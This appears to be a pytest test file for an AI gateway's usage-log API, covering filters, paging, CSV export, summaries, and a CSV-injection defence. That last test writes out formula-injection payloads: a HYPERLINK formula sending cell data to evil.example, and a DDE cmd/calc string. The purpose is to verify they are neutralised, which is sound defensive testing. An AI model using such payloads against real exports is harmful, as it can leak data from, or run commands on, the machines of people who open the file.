"""Usage logs: filters, pages, the CSV export, and summaries that add up to the logs."""

from __future__ import annotations

import csv
import io
from dataclasses import dataclass
from typing import Any

import pytest

from tests.admin.helpers import Api, unique
from tests.support.processes import wait_until

CSV_HEADER = [
    "id",
    "time",
    "created_at_ms",
    "request_id",
    "user_id",
    "username",
    "token_id",
    "channel_id",
    "endpoint",
    "model",
    "upstream_model",
    "stream",
    "prompt_tokens",
    "completion_tokens",
    "total_tokens",
    "usage_estimated",
    "status_code",
    "error",
    "latency_ms",
    "ttfb_ms",
    "client_ip",
    "quota",
    "attempts",
]


@dataclass
class Traffic:
    user: dict[str, Any]
    key: str
    key_id: int
    other_key_id: int
    rows: list[dict[str, Any]]  # every log row of the user, newest first


@pytest.fixture(scope="module")
def traffic(api: Api) -> Traffic:
    """One user's requests: 3 gpt-4o-mini, 2 gpt-4.1-mini, 1 refused gpt-4o; 1 more on a second key."""
    user = api.new_user(usd="50")
    limits = {"allowed_models": ["gpt-4o-mini", "gpt-4.1-mini"]}
    first = api.ok("POST", "/keys", 201, json={"user_id": user["id"], **limits})
    second = api.ok("POST", "/keys", 201, json={"user_id": user["id"]})
    for model, status in [("gpt-4o-mini", 200)] * 3 + [("gpt-4.1-mini", 200)] * 2 + [("gpt-4o", 403)]:
        assert api.chat(first["key"], model=model, content=f"hello {model}").status_code == status
    assert api.chat(second["key"], content="from the second key").status_code == 200
    params = {"user_id": user["id"], "per_page": 500}
    wait_until(lambda: api.ok("GET", "/logs", params=params)["total"] == 7, timeout=10)
    rows = api.ok("GET", "/logs", params=params)["data"]
    return Traffic(user, first["key"], first["id"], second["id"], rows)


def _ids(api: Api, **params: Any) -> list[int]:
    body = api.ok("GET", "/logs", params={"per_page": 500, **params})
    assert body["total"] == len(body["data"])
    return [r["id"] for r in body["data"]]


def test_pages_are_newest_first_and_cover_everything_once(api: Api, traffic: Traffic) -> None:
    seen: list[int] = []
    for page in (1, 2, 3):
        body = api.ok("GET", "/logs", params={"user_id": traffic.user["id"], "per_page": 3, "page": page})
        assert body["total"] == 7 and body["page"] == page and body["per_page"] == 3
        seen += [r["id"] for r in body["data"]]
    assert seen == [r["id"] for r in traffic.rows] == sorted(seen, reverse=True)
    assert (
        api.ok("GET", "/logs", params={"user_id": traffic.user["id"], "page": 4, "per_page": 3})["data"] == []
    )
    for bad in ({"per_page": 501}, {"per_page": 0}, {"page": 0}):
        assert api.admin("GET", "/logs", params=bad).status_code == 400
    row = traffic.rows[-1]
    assert row["username"] == traffic.user["username"] and row["total_tokens"] > 0 and row["quota"] > 0
    assert row["channel_id"] and row["attempts"] and row["upstream_model"] == "gpt-4o-mini"


def test_filters(api: Api, traffic: Traffic) -> None:
    uid = traffic.user["id"]
    rows = traffic.rows
    assert len(_ids(api, user_id=uid, model="gpt-4.1-mini")) == 2
    assert _ids(api, user_id=uid, token_id=traffic.other_key_id) == [rows[0]["id"]]
    refused = [r["id"] for r in rows if r["status_code"] == 403]
    assert len(refused) == 1
    for status in ("403", "4xx", "error"):
        assert _ids(api, user_id=uid, status=status) == refused
    assert len(_ids(api, user_id=uid, status="ok")) == 6
    assert len(_ids(api, user_id=uid, channel_id=rows[0]["channel_id"])) == 6
    assert api.admin("GET", "/logs", params={"status": "teapot"}).status_code == 400

    oldest_first = sorted(rows, key=lambda r: r["id"])
    cut = oldest_first[3]["created_at"]
    expected = [r["id"] for r in rows if r["created_at"] >= cut]
    assert _ids(api, user_id=uid, since=str(cut)) == expected
    assert _ids(api, user_id=uid, until=str(cut)) == [r["id"] for r in rows if r["created_at"] < cut]
    assert len(_ids(api, user_id=uid, since="-1h")) == 7
    assert _ids(api, user_id=uid, since="2999-01-01") == []
    assert _ids(api, user_id=uid, until="2000-01-01T00:00:00Z") == []
    bad = api.admin("GET", "/logs", params={"since": "last tuesday"})
    assert bad.status_code == 400 and bad.json()["error"]["param"] == "since"


def test_csv_export(api: Api, traffic: Traffic) -> None:
    resp = api.admin("GET", "/logs.csv", params={"user_id": traffic.user["id"]})
    assert resp.status_code == 200 and resp.headers["content-type"].startswith("text/csv")
    assert "attachment" in resp.headers["content-disposition"]
    table = list(csv.reader(io.StringIO(resp.text)))
    assert table[0] == CSV_HEADER
    records = [dict(zip(table[0], line, strict=True)) for line in table[1:]]
    assert [int(r["id"]) for r in records] == sorted(r["id"] for r in traffic.rows)  # oldest first
    by_id = {r["id"]: r for r in traffic.rows}
    for rec in records:
        row = by_id[int(rec["id"])]
        assert rec["request_id"] == row["request_id"] and int(rec["quota"]) == row["quota"]
        assert int(rec["total_tokens"]) == row["total_tokens"] and rec["username"] == traffic.user["username"]

    filtered = api.admin("GET", "/logs.csv", params={"user_id": traffic.user["id"], "model": "gpt-4o"})
    lines = list(csv.reader(io.StringIO(filtered.text)))
    assert len(lines) == 2 and lines[1][CSV_HEADER.index("status_code")] == "403"
    empty = api.admin("GET", "/logs.csv", params={"since": "2999-01-01"})
    assert list(csv.reader(io.StringIO(empty.text))) == [CSV_HEADER]
    assert api.admin("GET", "/logs.csv", params={"until": "nope"}).status_code == 400


def _sums(rows: list[dict[str, Any]]) -> dict[str, int]:
    return {
        "requests": len(rows),
        "errors": sum(r["status_code"] != 200 for r in rows),
        "prompt_tokens": sum(r["prompt_tokens"] for r in rows),
        "completion_tokens": sum(r["completion_tokens"] for r in rows),
        "total_tokens": sum(r["total_tokens"] for r in rows),
        "quota": sum(r["quota"] for r in rows),
    }


def test_summaries_add_up_to_the_logs(api: Api, traffic: Traffic) -> None:
    summary = api.ok("GET", "/usage/summary", params={"user_id": traffic.user["id"]})
    expected = _sums(traffic.rows)
    assert summary["total"] == expected
    for part in ("by_day", "by_model"):
        added = {k: sum(r[k] for r in summary[part]) for k in expected}
        assert added == expected, part
    models = {r["model"]: r for r in summary["by_model"]}
    assert set(models) == {"gpt-4o-mini", "gpt-4.1-mini", "gpt-4o"}
    for model, row in models.items():
        assert row == {"model": model, **_sums([r for r in traffic.rows if r["model"] == model])}
    assert [d["day"] for d in summary["by_day"]] == sorted(d["day"] for d in summary["by_day"])
    narrow = api.ok("GET", "/usage/summary", params={"user_id": traffic.user["id"], "model": "gpt-4o"})
    assert narrow["total"]["requests"] == 1 and narrow["total"]["errors"] == 1
    everyone = api.ok("GET", "/usage/summary")
    assert everyone["total"]["requests"] >= 7


def test_users_see_only_their_own_usage(api: Api, traffic: Traffic) -> None:
    mine = api.user(traffic.key, "GET", "/logs", params={"per_page": 500, "user_id": 1})
    assert mine.status_code == 200
    body = mine.json()
    assert body["total"] == 7 and [r["id"] for r in body["data"]] == [r["id"] for r in traffic.rows]
    assert "channel_id" not in body["data"][0] and "attempts" not in body["data"][0]
    by_model = api.user(traffic.key, "GET", "/logs", params={"model": "gpt-4.1-mini"}).json()
    assert by_model["total"] == 2
    summary = api.user(traffic.key, "GET", "/usage/summary").json()
    assert summary["total"] == _sums(traffic.rows)
    balance = api.user(traffic.key, "GET", "/balance").json()
    assert balance["used_quota"] == summary["total"]["quota"]
    assert balance["quota"] == 25_000_000 - balance["used_quota"]
    assert balance["used_usd"] == f"{balance['used_quota'] / 500_000:.6f}"


def test_csv_cells_that_a_spreadsheet_would_run_are_quoted(api: Api) -> None:
    """OWASP CSV injection: text cells starting with = + - @ tab or CR get a leading `'`."""
    user = api.new_user(username=unique("@sum"))
    key = api.new_key(user["id"])
    models = ['=HYPERLINK("http://evil.example/?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]
    for model in models:
        assert api.chat(key, model=model).status_code == 404
    for model in ("\t=1", "\r=1"):  # control characters never reach the log at all
        assert api.chat(key, model=model).status_code == 400
    params = {"user_id": user["id"]}
    wait_until(lambda: api.ok("GET", "/logs", params=params)["total"] == len(models), timeout=10)
    assert {r["model"] for r in api.ok("GET", "/logs", params=params)["data"]} == set(models)  # JSON: as is

    resp = api.admin("GET", "/logs.csv", params=params)
    records = list(csv.DictReader(io.StringIO(resp.text)))
    assert [r["model"] for r in records] == ["'" + m for m in models]
    assert {r["username"] for r in records} == {"'" + user["username"]}
    assert all(r["quota"] == "0" and r["status_code"] == "404" for r in records)  # numbers stay numbers


def test_csv_cells_starting_with_tab_or_cr_are_quoted_too() -> None:
    """Model names cannot carry them any more, but an upstream's error text can."""
    from aitre.billing.usage_query import csv_safe

    assert [csv_safe(v) for v in ("\t=1", "\r=1", "=1", "ok", 5, -5)] == [
        "'\t=1",
        "'\r=1",
        "'=1",
        "ok",
        5,
        -5,
    ]
